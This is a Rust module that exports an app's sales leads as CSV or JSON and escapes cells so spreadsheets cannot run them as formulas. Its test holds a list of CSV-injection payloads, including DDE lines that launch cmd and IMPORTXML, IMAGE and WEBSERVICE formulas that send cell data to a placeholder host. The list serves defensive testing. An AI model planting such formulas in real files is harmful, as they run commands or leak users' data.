//! Leads as files: CSV for a spreadsheet, JSON with a summary.

use std::borrow::Cow;

use chrono::{DateTime, Utc};
use chrono_tz::Tz;
use serde_json::{Value, json};

use super::{
    Stage,
    view::{LeadSummary, ListFilter, list},
};
use crate::platform::{
    db::AsConn,
    error::{Error, Result},
    id::OrgId,
    money::Cents,
};

const COLUMNS: [&str; 9] =
    ["Name", "Phone", "Service", "Stage", "Source", "Date Created", "Notes", "Quoted Total", "Collected Amount"];
const PAGE: i64 = 500;

/// `leads-2026-11-21.csv`, with the day as the org's zone has it.
#[must_use]
pub fn file_name(ending: &str, now: DateTime<Utc>, zone: Tz) -> String {
    format!("leads-{}.{ending}", now.with_timezone(&zone).format("%Y-%m-%d"))
}

/// All leads that the filter finds, newest first.
pub async fn rows(conn: &mut dyn AsConn, org: OrgId, filter: &ListFilter) -> Result<Vec<LeadSummary>> {
    let mut all = Vec::new();
    let mut filter = ListFilter { limit: PAGE, cursor: None, ..filter.clone() };
    loop {
        let page = list(conn, org, &filter).await?;
        all.extend(page.leads);
        match page.next {
            Some(next) => filter.cursor = Some(next),
            None => return Ok(all),
        }
    }
}

/// RFC 4180, with cells that a spreadsheet would run as a formula made harmless.
///
/// # Errors
/// [`Error::Internal`] only if memory cannot be written.
pub fn csv(leads: &[LeadSummary], zone: Tz) -> Result<String> {
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    let failed = |e: &dyn std::fmt::Display| Error::Internal(format!("csv: {e}"));
    writer.write_record(COLUMNS).map_err(|e| failed(&e))?;
    for lead in leads {
        let money = |cents: Option<Cents>| cents.map(Cents::plain).unwrap_or_default();
        let created = lead.created_at.with_timezone(&zone).format("%Y-%m-%d %H:%M").to_string();
        let cells = [
            lead.name.as_str(),
            &lead.phone,
            &lead.service,
            stage_name(lead.stage),
            &lead.source,
            &created,
            lead.notes.as_deref().unwrap_or_default(),
            &money(lead.quoted_total),
            &money(lead.collected_amount),
        ];
        writer.write_record(cells.map(|cell| harmless(cell).into_owned())).map_err(|e| failed(&e))?;
    }
    let bytes = writer.into_inner().map_err(|e| failed(&e))?;
    String::from_utf8(bytes).map_err(|e| failed(&e))
}

/// The list with counts per stage and the sums of money.
#[must_use]
pub fn json(leads: &[LeadSummary], now: DateTime<Utc>) -> Value {
    let by_stage: serde_json::Map<String, Value> = Stage::ALL
        .iter()
        .map(|stage| (stage_name(*stage).to_owned(), leads.iter().filter(|l| l.stage == *stage).count().into()))
        .collect();
    let sum = |pick: fn(&LeadSummary) -> Option<Cents>| Cents(leads.iter().filter_map(pick).map(|c| c.0).sum());
    json!({
        "exportedAt": now,
        "summary": {
            "total": leads.len(),
            "byStage": by_stage,
            "totalQuoted": sum(|l| l.quoted_total),
            "totalCollected": sum(|l| l.collected_amount),
        },
        "leads": leads,
    })
}

fn stage_name(stage: Stage) -> &'static str {
    match stage {
        Stage::New => "New",
        Stage::Quoted => "Quoted",
        Stage::Scheduled => "Scheduled",
        Stage::Done => "Done",
        Stage::Paid => "Paid",
    }
}

/// A leading `=`, `+`, `-`, `@`, tab, line break or their full-width forms would start a formula: an apostrophe before
/// it makes it text (OWASP, "CSV injection"). A phone number stays as it is: `+`, digits and space can run nothing.
pub(crate) fn harmless(cell: &str) -> Cow<'_, str> {
    let starts_formula = cell
        .trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    let is_number = cell.strip_prefix(['+', '-']).is_some_and(|rest| {
        rest.chars().all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | '(' | ')' | '-'))
            && rest.starts_with(|c: char| c.is_ascii_digit())
    }) && !cell[1..].contains('-');
    if starts_formula && !is_number { format!("'{cell}").into() } else { cell.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_in_a_cell_can_run() {
        let payloads = [
            "=HYPERLINK(\"http://x\")",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "＝1",
            "＋1",
            "－1",
            "＠x",
            "=cmd|' /C calc'!A0",
            "-2-3",
            "+cmd|'x'",
            "@import",
            "=",
            "+",
            "-",
            "@",
            "-A1",
            "+A1",
            "=1+1\";=1+1",
            "=IMPORTXML(CONCAT(\"http://x?\", A1:Z99), \"//a\")",
            "=IMAGE(\"https://x/\"&A1)",
            "=WEBSERVICE(\"https://x/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1+cmd|' /C calc'!A0",
            "+1-1",
            "+(1)",
            "-(1)-1",
            " \t=1",
            "   +A1",
            " ＝1",
            "\r\n=1",
            "=\u{200b}1",
            "-1E9",
        ];
        assert_eq!(payloads.len(), 40);
        for payload in payloads {
            assert!(harmless(payload).starts_with('\''), "{payload:?}");
        }
    }

    #[test]
    fn what_people_write_stays_readable() {
        for plain in ["+1 512 555 0142", "+15125550142", "(512) 555-0142", "-3.50", "Ann = Bob", "a@b.c", ""] {
            assert_eq!(harmless(plain), plain);
        }
    }

    #[test]
    fn the_file_is_dated_by_the_owners_day() {
        let late = "2026-11-21T02:30:00Z".parse().unwrap();
        assert_eq!(file_name("csv", late, chrono_tz::America::Chicago), "leads-2026-11-20.csv");
    }
}
